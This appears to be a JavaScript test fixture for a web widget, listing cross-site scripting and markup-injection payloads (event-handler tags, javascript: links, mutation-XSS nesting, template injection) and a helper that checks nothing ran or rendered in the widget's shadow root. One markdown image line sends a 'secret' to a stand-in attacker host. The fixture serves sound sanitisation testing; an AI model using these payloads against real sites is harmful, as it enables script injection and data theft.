// Texts that want to be more than text. Where one of them works, window.hacked is set.
import assert from "node:assert/strict";

export const payloads = [
  "<img src=x onerror=hacked=1>", "<script>hacked=1</script>", "<svg/onload=hacked=1>", "<iframe srcdoc='<script>parent.hacked=1</script>'>",
  "[click](javascript:hacked=1)", "<a href=\"java&#10;script:hacked=1\">x</a>", "![x](https://evil.example/?q=secret)", "<style>*{display:none}</style>",
  "</textarea><script>hacked=1</script>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hacked=1&gt;\">", "{{constructor.constructor('hacked=1')()}}",
];

/** Fails where something ran, or became an element that could. */
export async function unharmed(page) {
  await page.waitForTimeout(150);
  assert.equal(await page.evaluate(() => window.hacked), undefined, "nothing ran");
  const found = await page.evaluate(() => [...document.querySelector("[data-innconnect]").shadowRoot.querySelectorAll(
    "script, iframe, object, embed, style, img, math, [onerror], [onload], .log svg:not([aria-hidden]), a[href^='javascript' i]")].map((el) => el.outerHTML));
  assert.deepEqual(found, []);
}
